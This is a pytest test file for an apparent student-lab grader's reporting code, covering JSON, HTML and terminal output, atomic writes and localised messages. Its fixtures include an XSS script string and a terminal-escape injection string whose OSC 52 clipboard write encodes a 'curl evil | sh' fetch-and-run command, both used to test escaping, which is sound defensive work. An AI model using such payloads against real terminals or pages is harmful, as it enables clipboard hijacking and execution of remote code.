"""The reporters: JSON, HTML and terminal output of hand-built results, and atomic writes."""

from __future__ import annotations

import io
import json
import os
import re
import stat
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path

import markupsafe
import pytest
from rich.console import Console

from grader.errors import ReportWriteError
from grader.reporting import render_terminal, write_html, write_json
from grader.reporting.files import write_atomic
from grader.i18n import Messages
from grader.reporting.htmlreport import render_html
from grader.results import CheckResult, GradeResult, IssueKind, RunIssue, Status

SCRIPT = "<script>alert('pwned')</script>"
KOREAN = "평균 제곱 오차"

# Labs write hints to read on their own; the reports label them "Looks like" once.
MEAN_NOT_SUM_HINT = (
    "looks like you summed the squared errors instead of averaging them: use .mean(), not .sum()"
)
TRACEBACK = """\
Traceback (most recent call last):
  File "lab2.py", line 14, in gradient_step
    w -= lr * w.grad
RuntimeError: a leaf Variable that requires grad is being used in an in-place operation."""
# What nbclient hands back from IPython: colour codes included.
CELL_TRACEBACK = (
    "\x1b[0;31m---------------------------------------------------------------------------\x1b[0m\n"
    "\x1b[0;31mNameError\x1b[0m                                 Traceback (most recent call last)\n"
    "Cell \x1b[0;32mIn[3], line 1\x1b[0m\n"
    "\x1b[0;32m----> 1\x1b[0m plot(history)\n"
    "\x1b[0;31mNameError\x1b[0m: name 'plot' is not defined"
)


def check(
    name: str, status: Status, score: float, max_score: float, **extra: str
) -> CheckResult:
    function, _, _ = name.partition(".")
    title = extra.pop("title", name.partition(".")[2].replace("_", " ").capitalize())
    message = extra.pop("message", "matches the reference" if status is Status.PASSED else "")
    return CheckResult(name, function, title, status, score, max_score, message, **extra)


def full_marks_result() -> GradeResult:
    return GradeResult(
        lab="lab2",
        graded_file="lab2.py",
        submission_format="py",
        sha256="3f" * 32,
        selection="the only .py file in the folder",
        checks=(
            check("mse_cost.lesson_values", Status.PASSED, 2, 2),
            check("mse_cost.keeps_gradient", Status.PASSED, 2, 2),
            check("train_loop.loss_decreases", Status.PASSED, 3, 3),
        ),
        grader_version="0.1.0",
        functions=("mse_cost", "train_loop"),
    )


def mixed_result() -> GradeResult:
    checks = (
        check("mse_cost.lesson_values", Status.PASSED, 2, 2),
        check(
            "mse_cost.mean_not_sum",
            Status.FAILED,
            0,
            2,
            message="off by a factor of 4 (the number of samples)",
            expected="tensor(2.5000)",
            obtained="tensor(10.)",
            hint=MEAN_NOT_SUM_HINT,
        ),
        check(
            "mse_cost.korean_text",
            Status.PASSED,
            2,
            2,
            title=f"{KOREAN} (MSE) in the docstring",
            message=f"{SCRIPT} stays text; [bold]not markup[/bold]",
        ),
        check(
            "gradient_step.updates_in_place",
            Status.ERROR,
            0,
            4,
            message="raised RuntimeError",
            traceback=TRACEBACK,
        ),
        check(
            "gradient_step.zeroes_grad",
            Status.PASSED,
            4,
            4,
            output="step 1: w=0.50\nstep 2: w=0.75\n",
        ),
        check("train_loop.loss_decreases", Status.PASSED, 6, 6),
        check("train_loop.returns_history", Status.PASSED, 3, 3),
    )
    return GradeResult(
        lab="lab2",
        graded_file="lab2_submission.ipynb",
        submission_format="ipynb",
        sha256="a1" * 32,
        selection="changed from the released stub; the other notebook is unchanged",
        checks=checks,
        issues=(
            RunIssue(
                IssueKind.CELL_ERROR,
                "cell 3",
                "NameError: name 'plot' is not defined",
                traceback=CELL_TRACEBACK,
                source=f"plot(history)  # {SCRIPT}",
            ),
            RunIssue(IssueKind.CELL_TIMEOUT, "cell 7", "ran longer than 60 s and was stopped"),
        ),
        stderr=f"UserWarning: {KOREAN} {SCRIPT}\n",
        grader_version="0.1.0",
        functions=("mse_cost", "gradient_step", "train_loop"),
    )


SAMPLES = pytest.mark.parametrize(
    "result", [full_marks_result(), mixed_result()], ids=["full_marks", "mixed"]
)
WRITERS = pytest.mark.parametrize("write", [write_json, write_html], ids=["json", "html"])


def terminal_text(result: GradeResult) -> str:
    console = Console(record=True, width=100, color_system=None, file=io.StringIO())
    render_terminal(result, console)
    return console.export_text()


# JSON


@SAMPLES
def test_json_round_trips_to_the_documented_form(result: GradeResult, tmp_path: Path) -> None:
    write_json(result, tmp_path / "report.json")
    data = json.loads((tmp_path / "report.json").read_text(encoding="utf-8"))
    assert data == result.to_dict()
    assert data["schema_version"] == 1


def test_json_sums_match_the_checks(tmp_path: Path) -> None:
    write_json(mixed_result(), tmp_path / "report.json")
    data = json.loads((tmp_path / "report.json").read_text(encoding="utf-8"))
    assert (data["score"], data["max_score"]) == (17, 23)
    assert data["score"] == sum(c["score"] for c in data["checks"])
    for function in data["functions"]:
        mine = [c for c in data["checks"] if c["function"] == function["name"]]
        assert function["score"] == sum(c["score"] for c in mine)
        assert function["max_score"] == sum(c["max_score"] for c in mine)


def test_json_keeps_korean_as_text(tmp_path: Path) -> None:
    write_json(mixed_result(), tmp_path / "report.json")
    text = (tmp_path / "report.json").read_text(encoding="utf-8")
    assert KOREAN in text and text.endswith("}\n")


# Determinism


@WRITERS
@SAMPLES
def test_writing_twice_gives_identical_bytes(
    write: Callable[[GradeResult, Path], None], result: GradeResult, tmp_path: Path
) -> None:
    write(result, tmp_path / "first")
    write(result, tmp_path / "second")
    assert (tmp_path / "first").read_bytes() == (tmp_path / "second").read_bytes()


# HTML


def test_html_escapes_student_text() -> None:
    page = render_html(mixed_result())
    assert "<script" not in page.lower()
    assert "&lt;script&gt;alert(&#39;pwned&#39;)&lt;/script&gt;" in page


def test_html_has_a_section_per_function_in_lab_order() -> None:
    page = render_html(mixed_result())
    ids = re.findall(r'<section class="card function" id="fn-(\w+)"', page)
    assert ids == ["mse_cost", "gradient_step", "train_loop"]


def test_html_shows_total_hint_and_comparison() -> None:
    page = render_html(mixed_result())
    assert 'id="total-score">17 / 23</div>' in page
    assert "Looks like:</strong> you summed the squared errors" in page
    assert "looks like you" not in page.lower()
    assert "<pre>tensor(2.5000)</pre>" in page and "<pre>tensor(10.)</pre>" in page
    assert "<summary>Traceback: <code>RuntimeError: a leaf Variable" in page


def test_html_shows_run_issues_and_stderr_without_colour_codes() -> None:
    page = render_html(mixed_result())
    assert "Error in a cell</span> cell 3" in page
    assert "Cell timed out</span> cell 7" in page
    assert "never counted" in page
    assert KOREAN in page
    assert "\x1b" not in page


def test_html_is_self_contained() -> None:
    page = render_html(mixed_result())
    assert page.startswith("<!DOCTYPE html>\n<html lang=\"en\">")
    assert '<meta charset="utf-8">' in page
    assert "Noto Sans CJK KR" in page and "Malgun Gothic" in page
    for external in ("<link", "<img", "src=", "url(", "http://", "https://", "@import"):
        assert external not in page


def test_html_full_marks_says_so() -> None:
    page = render_html(full_marks_result())
    assert "Full marks." in page
    assert 'class="bar full"' in page


def test_checks_of_unlisted_functions_still_show() -> None:
    result = GradeResult(
        lab="lab2",
        graded_file="lab2.py",
        submission_format="py",
        sha256="",
        selection="",
        checks=(check("mse_cost.lesson_values", Status.PASSED, 1.5, 2),),
    )
    assert re.findall(r'id="fn-(\w+)"', render_html(result)) == ["mse_cost"]
    assert re.search(r"✓ PASS +1\.5/2 +Lesson values", terminal_text(result))


# Terminal


@SAMPLES
def test_terminal_has_one_line_per_check_and_the_total(result: GradeResult) -> None:
    text = terminal_text(result)
    check_lines = re.findall(r"^ +(?:✓ PASS|✗ FAIL|✗ ERROR) +\d+/\d+ ", text, flags=re.MULTILINE)
    assert len(check_lines) == len(result.checks)
    assert f"Score: {result.score:g}/{result.max_score:g}" in text


def test_terminal_mixed_report_reads_without_colour() -> None:
    text = terminal_text(mixed_result())
    assert "Score: 17/23" in text
    assert re.search(r"✗ FAIL +0/2 +Mean not sum — off by a factor of 4", text)
    assert re.search(r"expected +tensor\(2\.5000\)", text)
    assert re.search(r"obtained +tensor\(10\.\)", text)
    assert re.search(r"looks like +you summed the squared errors", text)
    assert "looks like looks like" not in text
    assert "raised RuntimeError: a leaf Variable" in text
    assert re.search(r"! ERROR +cell 3 +Error in a cell: NameError: name 'plot' is not defined", text)
    assert re.search(r"! TIMEOUT +cell 7 +Cell timed out: ran longer than 60 s", text)
    assert "shown in the HTML report; never counted" in text
    assert "[bold]not markup[/bold]" in text  # student text is never rich markup
    assert "\x1b" not in text


def test_terminal_piped_output_has_no_escape_codes() -> None:
    stream = io.StringIO()
    render_terminal(mixed_result(), Console(file=stream, width=100))
    assert "\x1b" not in stream.getvalue()
    assert "Score: 17/23" in stream.getvalue()


# Atomic writes


@pytest.mark.parametrize("data", ["héllo 평균\n", b"\x00\x01bytes"], ids=["text", "bytes"])
def test_write_atomic_replaces_the_file_and_leaves_no_temp_files(
    data: str | bytes, tmp_path: Path
) -> None:
    target = tmp_path / "report.html"
    target.write_text("old report")
    write_atomic(target, data)
    expected = data.encode("utf-8") if isinstance(data, str) else data
    assert target.read_bytes() == expected
    assert os.listdir(tmp_path) == ["report.html"]
    assert stat.S_IMODE(target.stat().st_mode) == 0o644


def test_write_atomic_under_a_regular_file_raises(tmp_path: Path) -> None:
    blocker = tmp_path / "not_a_folder"
    blocker.write_text("")
    with pytest.raises(ReportWriteError) as raised:
        write_atomic(blocker / "report.json", "{}")
    assert raised.value.path == blocker / "report.json"
    assert str(raised.value).startswith(f"cannot write {blocker / 'report.json'}: ")


def test_write_atomic_failing_rename_cleans_up(tmp_path: Path) -> None:
    (tmp_path / "report.json").mkdir()  # os.replace cannot put a file over a folder
    with pytest.raises(ReportWriteError):
        write_atomic(tmp_path / "report.json", "{}")
    assert os.listdir(tmp_path) == ["report.json"]


def test_advice_is_labelled_a_hint_and_a_diagnosis_looks_like() -> None:
    """Some labs' hints are advice ("compute the cost with torch operations...", lab 2's cost
    returned as a float): under "Looks like" they read as broken English (found by review)."""
    from dataclasses import replace

    advice = "compute the cost with torch operations on the prediction; avoid .item(), .detach(), torch.tensor(...) or numpy on the way"
    base = mixed_result()
    result = replace(base, checks=tuple(
        replace(c, hint=advice, status=Status.FAILED, score=0, message="off by 0.5", expected="0.5", obtained="1.0")
        if c.name == "gradient_step.zeroes_grad" else c for c in base.checks))
    assert any(c.hint == advice and c.status is not Status.PASSED for c in result.checks)
    page = render_html(result)
    assert "Hint:</strong> compute the cost" in page and "Looks like:</strong> compute" not in page
    assert "Looks like:</strong> you summed the squared errors" in page
    text = terminal_text(result)
    assert re.search(r"hint\s+compute the cost", text) and not re.search(r"looks like\s+compute", text), text
    korean = render_html(result, "ko")
    assert "도움말:</strong> 비용은 예측값에 torch 연산을" in korean


def test_terminal_says_a_grader_failure_shared_by_many_checks_once() -> None:
    """When none of the student's code could run, every check carries the same long grader error:
    the report says it once, above the checks, and each check keeps its title."""
    failure = "grader error, not your code: the grader could not start a Jupyter kernel"
    checks = tuple(check(f"mse_cost.part_{i}", Status.GRADER_ERROR, 0, 2, message=failure) for i in range(3))
    alone = check("train_loop.other", Status.GRADER_ERROR, 0, 1, message="grader error, not your code: odd")
    result = GradeResult(lab="lab2", graded_file="lab2.py", submission_format="py", sha256="", selection="",
                         checks=(*checks, alone), functions=("mse_cost", "train_loop"))
    text = terminal_text(result)
    flat = re.sub(r"\s+", " ", text)  # (long lines wrap)
    assert flat.count("could not start a Jupyter kernel") == 1
    assert "! GRADER For the 3 checks marked GRADER below: grader error, not your code: the grader could" in flat
    for i in range(3):
        assert re.search(rf"! GRADER +0/2 +Part {i}\n", text)
    assert "! GRADER 0/1 Other — grader error, not your code: odd" in flat  # alone: said where it is
    single = GradeResult(lab="lab2", graded_file="lab2.py", submission_format="py", sha256="", selection="",
                         checks=(checks[0],), functions=("mse_cost",))
    flat = re.sub(r"\s+", " ", terminal_text(single))
    assert "marked GRADER below" not in flat
    assert "Part 0 — grader error, not your code: the grader could not start a Jupyter kernel" in flat


def t_start(lang: str) -> str:
    return Messages(lang)("report.start_with")


def test_html_says_a_grader_failure_shared_by_many_checks_once() -> None:
    failure = ("grader error, not your code: the sandboxed Python ended before the submission's code started (the "
               "sandbox could not start it); limits set too low (--processes, --open-files, --memory) can cause this; "
               "these points could not be graded")
    checks = tuple(check(f"mse_cost.part_{i}", Status.GRADER_ERROR, 0, 2, message=failure) for i in range(3))
    result = GradeResult(lab="lab2", graded_file="lab2.py", submission_format="py", sha256="", selection="",
                         checks=checks, functions=("mse_cost",))
    for lang, marked in (("en", "For the 3 checks marked &#34;grader error&#34; below:"),
                         ("ko", "아래에 &#34;채점기 오류&#34;로 표시된 검사 3개 모두:")):
        page = render_html(result, lang)
        said = Messages(lang).detail(failure)
        assert page.count(str(markupsafe.escape(said))) == 1 and (lang == "en") == (said == failure)
        assert re.search(r'id="shared-grader-error"><strong>' + re.escape(marked), page)
        assert len(re.findall(r'<article class="check grader_error"', page)) == 3
        assert len(re.findall(r'<p class="message">', page)) == 0
        assert t_start(lang) not in page  # nothing of the student's to start with


def test_the_grader_failure_said_once_is_the_same_in_every_process() -> None:
    """Two messages shared by as many checks: the first in check order is said once, whatever the
    process's hash seed (reports are deterministic)."""
    import subprocess
    import sys

    code = ("from grader.reporting._view import shared_grader_error\n"
            "from grader.results import CheckResult, Status\n"
            "msgs = ['the check itself raised IndexError', 'the check itself raised KeyError']\n"
            "checks = [CheckResult(f'f.c{i}', 'f', 't', Status.GRADER_ERROR, 0, 1, msgs[i // 2]) for i in range(4)]\n"
            "print(shared_grader_error(checks)[0])\n")
    said = {subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True,
                           env={**os.environ, "PYTHONHASHSEED": str(seed)}).stdout.strip() for seed in range(1, 7)}
    assert said == {"the check itself raised IndexError"}


def test_output_past_the_limit_is_told_as_such_not_as_stderr() -> None:
    """A notebook cell that printed 200,000 lines to stdout: the notes say its output passed the limit
    (and was not kept), not that it wrote to stderr; stderr alone keeps the stderr note."""
    flooded = replace(full_marks_result(), stderr="[cell 3] [... output truncated ...]\n")
    text = " ".join(terminal_text(flooded).split())
    assert "printed more than the output limit" in text and "to stderr" not in text, text
    assert "printed more than the output limit" in render_html(flooded)
    warned = replace(full_marks_result(), stderr="UserWarning: something\n")
    assert "wrote warnings or other text to stderr" in " ".join(terminal_text(warned).split())
    assert "printed more than the output limit" not in render_html(warned)


# What a submission puts in any text the terminal shows: an OSC 52 clipboard write, a window title, an
# OSC 8 link, a full reset, a cursor move up, a DCS, an 8-bit CSI, a bell, a right-to-left override.
HOSTILE = ("\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x1b\\\x1b]0;25/25 full marks\x07\x1b]8;;https://evil.example/\x1b\\link"
           "\x1b]8;;\x1b\\\x1bc\x1bM\x1b7\x1bP1$r\x1b\\\x9b2J\x07\u202eskram lluf")


def test_the_terminal_shows_control_characters_from_a_submission_and_never_sends_them() -> None:
    """Only colour codes (CSI ... m) were taken out of a submission's text; an OSC 52 in an exception's
    message wrote the clipboard of an instructor grading a handed-in file in a real terminal, and an
    ESC c cleared the report. Every control character is now shown as an escape, never sent."""
    result = replace(mixed_result(), graded_file=f"lab2{HOSTILE}.py", selection=f"given {HOSTILE}",
                     stderr=f"printed {HOSTILE}\n",
                     checks=tuple(replace(c, message=f"raised ValueError: {HOSTILE}", expected=HOSTILE, obtained=HOSTILE,
                                          traceback=f"Traceback\nValueError: {HOSTILE}", output=HOSTILE,
                                          status=Status.ERROR, score=0) for c in mixed_result().checks),
                     issues=(RunIssue(IssueKind.CELL_ERROR, f"cell {HOSTILE}", f"ValueError: {HOSTILE}",
                                      traceback=f"ValueError: {HOSTILE}", source=HOSTILE),))
    stream = io.StringIO()
    render_terminal(result, Console(file=stream, width=100, force_terminal=True, color_system="standard"))
    sent = stream.getvalue()
    assert "\x1b[" in sent  # (a terminal: rich's own colours are there)
    leftover = re.sub(r"\x1b\[[0-9;]*m", "", sent)  # rich's colours, and nothing else, may be escapes
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", leftover), repr(leftover[:400])
    assert "raised ValueError: \\x1b]52;c;" in leftover and "\\u202e" in leftover, leftover


def repeating_result() -> GradeResult:
    """One error failing three checks of train_step alike; one mistake failing two of mse_cost with
    different numbers; the JSON keeps all of it."""
    error = {"message": "train_step raised AttributeError: 'float' object has no attribute 'backward'",
             "hint": "looks like backward() called on a Python number", "traceback": TRACEBACK}
    checks = (
        check("mse_cost.lesson_values", Status.FAILED, 0, 2, message="off by 4.0", expected="2.5", obtained="10.0",
              hint=MEAN_NOT_SUM_HINT),
        check("mse_cost.other_data", Status.FAILED, 0, 1, message="off by 1.5", expected="0.5", obtained="2.0",
              hint=MEAN_NOT_SUM_HINT),
        check("train_step.first_steps", Status.ERROR, 0, 2, **error),
        check("train_step.consecutive", Status.ERROR, 0, 2, **error),
        check("train_step.long_run", Status.ERROR, 0, 2, **error),
        check("train_step.uses_sgd", Status.ERROR, 0, 1, **{**error, "hint": "create the optimizer once"}),
    )
    return GradeResult(lab="lab2", graded_file="lab2.py", submission_format="py", sha256="b2" * 32, selection="",
                       checks=checks, grader_version="0.1.0", functions=("mse_cost", "train_step"))


@pytest.mark.parametrize("lang", ["en", "ko"])
def test_what_checks_of_one_function_repeat_is_said_once(lang: str, tmp_path: Path) -> None:
    """A review: one error repeated its message, hint and traceback under each of a function's checks
    (seven identical paragraphs); the terminal and HTML reports say it once, then "the same as above"."""
    result = repeating_result()
    t = Messages(lang)
    console = Console(record=True, width=200, color_system=None, file=io.StringIO())
    render_terminal(result, console, lang=lang)
    text = console.export_text()
    page = render_html(result, lang=lang)
    for shown in (text, page):
        assert shown.count("object has no attribute") == 2, shown  # first_steps, and uses_sgd with its own hint
        assert shown.count("a leaf Variable") == (2 if shown is text else 4)  # (the HTML: summary and traceback)
        assert shown.count(t("report.same_as_above")) == 2  # consecutive and long_run; uses_sgd has its own hint
        assert shown.count(t("report.same_mistake_as_above")) == 1  # mse_cost's second check: its numbers, no hint again
        assert "create the optimizer once" in shown
    assert "1.5" in text and "0.5" in text  # (the second check's own numbers stay)
    lines = {line.split(" — ")[0].split()[-1]: line for line in text.splitlines() if " — " in line}
    assert lines["Consecutive"].endswith(t("report.same_as_above"))
    written = tmp_path / "r.json"
    write_json(result, written)
    assert [c["traceback"] for c in json.loads(written.read_text(encoding="utf-8"))["checks"]].count(TRACEBACK) == 4


def test_a_file_that_could_not_load_is_said_before_the_checks_it_failed() -> None:
    """A review: a `.py` with a SyntaxError failed every check with "the file could not run", and the
    SyntaxError itself came last, under the checks. When the top level failed and nothing passed, the
    problems come first and the HTML starts there; a load error with points earned keeps them last."""
    syntax = RunIssue(IssueKind.LOAD_ERROR, "lab2.py", "SyntaxError: expected ':'")
    failed = tuple(check(f"mse_cost.part_{i}", Status.ERROR, 0, 1, message="no mse_cost found: the file could not run")
                   for i in range(2))
    result = GradeResult(lab="lab2", graded_file="lab2.py", submission_format="py", sha256="", selection="",
                         checks=failed, issues=(syntax,), functions=("mse_cost",))
    text = terminal_text(result)
    assert text.index("SyntaxError: expected ':'") < text.index("mse_cost  0/2") < text.index("Part 1")
    assert text.count("SyntaxError: expected ':'") == 1
    assert 'Start with <a href="#issues">Problems while your code ran</a>.' in render_html(result)
    earned = replace(result, checks=(*failed, check("mse_cost.other", Status.PASSED, 1, 1)))
    text = terminal_text(earned)
    assert text.index("mse_cost  1/3") < text.index("SyntaxError: expected ':'")
    assert 'Start with <a href="#check-mse_cost.part_0">' in render_html(earned)


@pytest.mark.parametrize("lang", ["en", "ko"])
def test_a_figures_words_give_its_numbers_at_one_precision_with_true_minus_signs(lang: str) -> None:
    """A review: a figure's description read "from 70.3333 to 0.626" and "y = 2.19267·x − 0.224" (six
    significant digits above 1, three below) and "W = -0.5" with a hyphen. Four digits throughout now."""
    from grader.figures import cost_over_epochs, fitted_line
    from grader.reporting.htmlreport import pictures

    costs = cost_over_epochs("train", [70.3333, 5.1, 0.626011], [70.3333, 4.9, 0.626011])
    line = fitted_line("train", [1.0, 2.0, 3.0], [2.0, 4.0, 6.0], (2.19267, -0.224271), (-1.5, 29661.8))
    result = GradeResult(lab="lab2", graded_file="lab2.py", submission_format="py", sha256="", selection="",
                         checks=(), functions=("train",), figures=(costs, line))
    [first, second] = [p.alt for p in pictures(result, Messages(lang))["train"]]
    assert "70.33" in first and "0.626" in first and "70.3333" not in first and "0.626011" not in first
    assert "y = 2.193·x − 0.2243" in second and "y = −1.5·x + 29662" in second, second
    assert "-" not in second and "+ −" not in second
